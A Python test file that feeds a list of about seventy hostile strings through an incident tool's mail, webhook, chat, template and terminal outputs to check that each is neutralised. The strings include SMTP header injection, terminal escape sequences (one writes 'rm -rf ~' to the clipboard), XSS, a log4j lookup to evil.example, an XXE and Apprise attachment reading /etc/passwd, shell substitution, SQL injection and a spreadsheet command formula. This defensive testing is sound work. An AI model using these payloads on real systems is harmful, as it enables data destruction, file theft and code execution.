"""Hostile names, titles and texts in messages: sent for real to a mail server and an HTTP receiver, they have no effect.

Each input is a title and each text of an update at once. What the records refuse, as they do invisible characters, is
sent past them, so that nothing depends on the record being checked.
"""

from __future__ import annotations

import json
import re
import socket
import threading
from collections.abc import Iterator
from datetime import UTC, datetime
from email import message_from_bytes, policy
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Final

import pytest
from aiosmtpd.controller import Controller
from markdown import Markdown

from mimkit.model.incident.entries import Update
from mimkit.model.incident.incident import Incident
from mimkit.model.incident.state import fold
from mimkit.model.text import normalise
from mimkit.report.incident.messages.outgoing import messages
from mimkit.report.text.terminal import safe
from mimkit.store.channels.mail import Mail
from mimkit.store.channels.message import Message
from mimkit.store.channels.push import Push
from tests.builders import Desk, entry, incident

BEL, ESC, NUL = "\x07", "\x1b", "\0"
HOSTILE: Final = {
    # Mail headers, and the commands of a mail server.
    "header": "x\r\nBcc: victim@example.org",
    "header with LF": "x\nBcc: victim@example.org",
    "header with CR": "x\rBcc: victim@example.org",
    "header, folded": "x\r\n\tBcc: victim@example.org",
    "end of the headers": "x\r\n\r\n<html>body</html>",
    "unusual line breaks": "x\x0bBcc: a@b\x0cBcc: a@b\x1cBcc: a@b\x1dBcc: a@b\x1eBcc: a@b\x85Bcc: a@b\u2028Bcc: a@b\u2029Bcc: a@b",
    "end of the mail": "x\r\n.\r\nMAIL FROM:<a@example.org>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nspam\r\n.\r\n",
    "end of the mail, LF only": "x\n.\nMAIL FROM:<a@example.org>",
    "end of the mail, mixed": "x\r\n.\nMAIL FROM:<a@example.org>\r\n\n.\r\r\n",
    "encoded word": "=?utf-8?q?x=0D=0ABcc:_victim@example.org?=",
    "encoded word, base64": "=?utf-8?b?eA0KQmNjOiB2aWN0aW1AZXhhbXBsZS5vcmc=?=",
    "encoded word, unknown": "=?x-unknown?q?=FF?= =?utf-8?x?broken?= =?utf-8?b?=?=",
    "multipart": "--===============\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n--===============--",
    "addresses": 'a@example.org, "b" <c@example.org>; group: d@example.org;',
    "angle": "<victim@example.org> (comment) \\",
    # Terminals.
    "colours": f"{ESC}[31mred{ESC}[0m",
    "clear the screen": f"{ESC}[2J{ESC}[H{ESC}c",
    "terminal title": f"{ESC}]0;owned{BEL}",
    "terminal link": f"{ESC}]8;;https://evil.example{ESC}\\click{ESC}]8;;{ESC}\\",
    "clipboard": f"{ESC}]52;c;cm0gLXJmIH4={BEL}",
    "one-byte CSI": "\x9b31mred\x9d0;owned\x9c",
    "overwrite": "all is lost\rall is well",
    "backspace": "secret\b\b\b\b\b\b......",
    "NUL": f"a{NUL}b",
    "delete": "a\x7fb",
    "job log": "::set-output name=x::y\n::error::x\n##[error]x ##vso[task.setvariable variable=a]b",
    # Invisible characters, and characters that turn the text round.
    "right to left": "\u202egnp.exe\u202c",
    "isolates": "\u2066\u2067a\u2068b\u2069",
    "marks": "a\u200eb\u200fc\u061cd",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "tags": "a\U000e0041\U000e0042\U000e007fb",
    "soft hyphen": "pass\u00adword",
    "half a pair": "a\ud800b\udfffc",
    "a byte that is no UTF-8": b"a\xffb".decode("utf-8", "surrogateescape"),
    "private use": "a\ue000\U000f0000b",
    "combining": "a" + "\u0301" * 500,
    "emoji": "\U0001f469\u200d\U0001f4bb \u2764\ufe0f \U0001f1e9\U0001f1ea",
    "look-alikes": "\uff20everyone \uff1cscript\uff1e \u0430dmin",
    # Mentions.
    "everyone": "@everyone @here @channel @all @room",
    "everyone, hidden": "@\u200beveryone @\u2060here x@everyone.y (@here)",
    "Slack mentions": "<!channel> <!here|here> <!everyone> <!subteam^S1|@x>",
    "Slack people": "<@U123> <@W123|x> <#C123|general>",
    "Discord": "<@123> <@!123> <@&123> <#123> <:x:123> <t:0:R>",
    "Google Chat": "<users/all> <users/123>",
    "Matrix": "@room @ann:example.org #room:example.org https://matrix.to/#/@ann:example.org",
    "Teams": "<at>Everyone</at> {{DATE(2017-02-14T06:00:00Z, SHORT)}}",
    "command": "/invite @ann\n/giphy x\n!x .x",
    # Markup.
    "link": "[pay here](https://evil.example)",
    "script link": "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](data:text/html;base64,x)",
    "Slack link": "<https://evil.example|https://bank.example>",
    "picture": "![x](https://evil.example/i.png) <img src=x onerror=alert(1)>",
    "script": "<script>alert(1)</script><svg/onload=alert(1)>",
    "attribute": "\"><a href='javascript:alert(1)' style=x onclick=\"y\">z</a>",
    "entities": "&lt;b&gt; &#60;script&#62; &#x3c;b&#x3e; &nbsp",
    "comment": "<!-- --><![CDATA[x]]><?php x ?><!doctype x>",
    "emphasis": "*a* **b** _c_ ~d~ `e` ```f``` ||g||",
    "structure": "# h\n> q\n- l\n1. l\n---\n===\n| a | b |\n| - | - |\n    code",
    "reference link": "[x][y]\n\n[y]: https://evil.example",
    # Templates, formats and shells.
    "field of the template": "{title} {severity} {next} {affected}",
    "format": "{0} {0.__class__} {self} {} {{title}} }{",
    "percent": "%s %d %(asctime)s %n %x %%",
    "environment": "$HOME ${HOME} ${MIM_EXEC_MAIL} %PATH% ~ $(id) `id`",
    "Jinja": "{{ 7*7 }} {% import os %} {# x #} #{7*7} <%= 7*7 %>",
    "log4j": "${jndi:ldap://evil.example/x}",
    "JSON": '"}, "title": "x", {"a": "b\\',
    "XML": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "Apprise address": "json://evil.example mailto://a:b@evil.example?to=c slack://a/b/c",
    "Apprise parameters": "?title=x&format=html&attach=file:///etc/passwd&redirect=yes&overflow=split&+X=y&-x=y&:x=y",
    "Apprise escapes": "\\n\\r\\nBcc: x \\u0041 \\x1b[31m",
    "path": "../../etc/passwd file:///etc/passwd \\\\evil\\share",
    "SQL": "'; drop table incidents; --",
    "spreadsheet": '=cmd|"/c calc"!A1 +1 -1 @sum(1)',
    "very long": "x" * 19_000,
    "very long word in lines": ("y" * 1_200 + "\n") * 10,
    "many lines": "z\n" * 5_000,
    "many mentions": "@all " * 3_000,
}  # fmt: skip
HEADERS: Final = {
    "From", "To", "Subject", "Date", "Message-ID", "List-Id", "Auto-Submitted", "MIME-Version", "Content-Type",
}  # fmt: skip
UNSEEN: Final = re.compile(
    "[\0-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff\U000e0000-\U000e007f]"
)
MENTION: Final = re.compile(r"@\w|<[!@#]")


class Receivers:
    """What a mail server and an HTTP receiver got."""

    def __init__(self) -> None:
        self.mails: list[tuple[list[str], bytes]] = []
        self.posts: list[tuple[str, dict[str, Any]]] = []

    async def handle_DATA(self, _server: Any, _session: Any, envelope: Any) -> str:  # noqa: N802 - as the server calls it
        self.mails.append((envelope.rcpt_tos, envelope.content))
        return "250 OK"


@pytest.fixture(scope="module")
def receivers() -> Receivers:
    return Receivers()


@pytest.fixture(scope="module")
def mail(receivers: Receivers) -> Iterator[Mail]:
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    controller = Controller(receivers, hostname="127.0.0.1", port=port, enable_SMTPUTF8=True)
    controller.start()
    with Mail(
        f"smtp://127.0.0.1:{port}/?from=mim@example.org&starttls=no", "URL", "m", may_be_private=True
    ) as way:
        yield way
    controller.stop()


@pytest.fixture(scope="module")
def port(receivers: Receivers) -> Iterator[int]:
    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            receivers.posts.append((self.path, body))
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port
        server.shutdown()


@pytest.fixture(autouse=True)
def fresh(receivers: Receivers) -> None:
    receivers.mails.clear()
    receivers.posts.clear()


def told(text: str) -> Message:
    return Message(
        text,
        f"What is affected: {text}\nWhat is being done: {text}",
        "key",
        "staff",
        datetime(2026, 11, 23, tzinfo=UTC),
    )


def test_there_are_at_least_sixty() -> None:
    assert len(HOSTILE) >= 60


@pytest.mark.sweep
@pytest.mark.parametrize("name", HOSTILE)
def test_a_mail_has_only_its_own_headers_recipient_and_parts(
    receivers: Receivers, mail: Mail, name: str
) -> None:
    outcome = mail.send("ann@example.org", told(HOSTILE[name]))
    assert outcome.answer.value == "accepted", outcome
    ((recipients, raw),) = receivers.mails
    assert recipients == ["ann@example.org"]
    found = message_from_bytes(raw, policy=policy.default)
    assert isinstance(found, EmailMessage)
    assert set(found.keys()) == HEADERS
    assert len(found.keys()) == len(HEADERS)
    assert [part.get_content_type() for part in found.walk()] == [
        "multipart/alternative",
        "text/plain",
        "text/html",
    ]
    assert not found.defects
    assert not UNSEEN.search(found["Subject"])
    plain, page = found.get_body(("plain",)), found.get_body(("html",))
    assert plain is not None
    assert page is not None
    assert not UNSEEN.search(plain.get_content().replace("\r\n", "\n"))
    assert not UNSEEN.search(page.get_content().replace("\r\n", "\n"))
    tags = set(re.findall(r"<([^\s>/][^>]*)>", page.get_content()))
    allowed = r'!doctype html|html lang="en"|head|meta charset="utf-8"|body|p|br|strong|ul|ol start="\d+"|li'
    assert all(re.fullmatch(allowed, each) for each in tags), tags


@pytest.mark.parametrize("name", HOSTILE)
def test_a_webhook_gets_the_text_and_nothing_else(receivers: Receivers, port: int, name: str) -> None:
    outcome = Push(f"json://127.0.0.1:{port}/hook", "URL", "m", may_be_private=True).send(told(HOSTILE[name]))
    assert outcome.answer.value == "accepted", outcome
    ((path, body),) = receivers.posts
    assert path == "/hook"
    assert set(body) == {"version", "title", "message", "attachments", "type"}
    assert (body["attachments"], body["type"]) == ([], "info")
    for each in (body["title"], body["message"]):
        assert not UNSEEN.search(each)
        assert not MENTION.search(each)
    assert "\n" not in body["title"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_chat_shows_the_text_and_no_markup(receivers: Receivers, port: int, name: str) -> None:
    outcome = Push(
        f"mmost://127.0.0.1:{port}/3ccdd113474722377935511fc85d3dd4", "URL", "m", may_be_private=True
    ).send(told(HOSTILE[name]))
    assert outcome.answer.value == "accepted", outcome
    assert {path for path, _ in receivers.posts} == {"/hooks/3ccdd113474722377935511fc85d3dd4"}
    for _, body in receivers.posts:
        assert set(body) <= {"text", "icon_url", "username"}
        assert not UNSEEN.search(body["text"].replace("\u2060", ""))
        assert not MENTION.search(body["text"])
        if len(body["text"]) < 5_000:
            reader = Markdown()
            reader.ESCAPED_CHARS = list("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
            assert set(re.findall(r"</?([A-Za-z]\w*)", reader.convert(body["text"]))) <= {
                "p",
                "br",
                "strong",
                "ul",
                "ol",
                "li",
            }


@pytest.mark.parametrize("name", HOSTILE)
def test_a_template_is_filled_once_and_shows_the_public_only_what_is_for_it(desk: Desk, name: str) -> None:
    """The title is internal; a text that asks for it as a template would does not get it."""
    text = normalise(HOSTILE[name].encode("utf-8", "ignore").decode())
    update = entry("10:20", "update", affected=text, doing=text, not_affected=text)
    record: Incident = incident(
        entry("10:09", "declared", severity="SEV1"), update, title="pay-db-03 is down"
    )
    told_to = record.timeline[-1]
    assert isinstance(told_to, Update)
    for each in messages(told_to, record, fold(record), desk.snapshot):
        assert each.text.count(text) >= 3
        if each.is_public:
            assert "pay-db-03" not in each.subject + each.text


@pytest.mark.parametrize("name", HOSTILE)
def test_a_terminal_shows_the_text_and_does_nothing(name: str) -> None:
    """As `mim` shows a message before it asks whether to send it."""
    shown = safe(HOSTILE[name])
    assert not UNSEEN.search(shown)
    assert not re.search(r"(?m)(?:^|\s)::|##(?=\[|vso\[)", shown)
